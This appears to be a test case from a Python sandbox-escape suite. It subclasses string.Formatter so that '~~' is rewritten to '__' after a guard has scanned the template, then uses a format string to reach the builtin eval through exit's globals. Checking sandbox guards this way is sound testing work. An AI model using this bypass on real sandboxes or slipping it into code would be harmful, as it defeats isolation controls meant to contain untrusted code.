# technique: types.new_class subclass of string.Formatter whose parse() rewrites '~~' to '__' after the guard scanned the template
# configs: default, stdlib_all
# stdlib_all: in-process — its proof (a builtin) is importable under * through builtins
# Needs imports with nothing allowed; under stdlib * the template the guard sees is harmless.
import string
import types
def body(ns):
    def parse(self, template):
        for literal, field, spec, conversion in string.Formatter.parse(self, template):
            if field is not None:
                field = field.replace('~', '_')
            yield literal, field, spec, conversion
    ns['parse'] = parse
Sneaky = types.new_class('Sneaky', (string.Formatter,), {}, body)
text = Sneaky().format('{0.~~init~~.~~globals~~[~~builtins~~][eval]}', exit)
if 'built-in function eval' in text:
    return [{'json': {'escaped': text}}]
return [{'json': {'result': text}}]
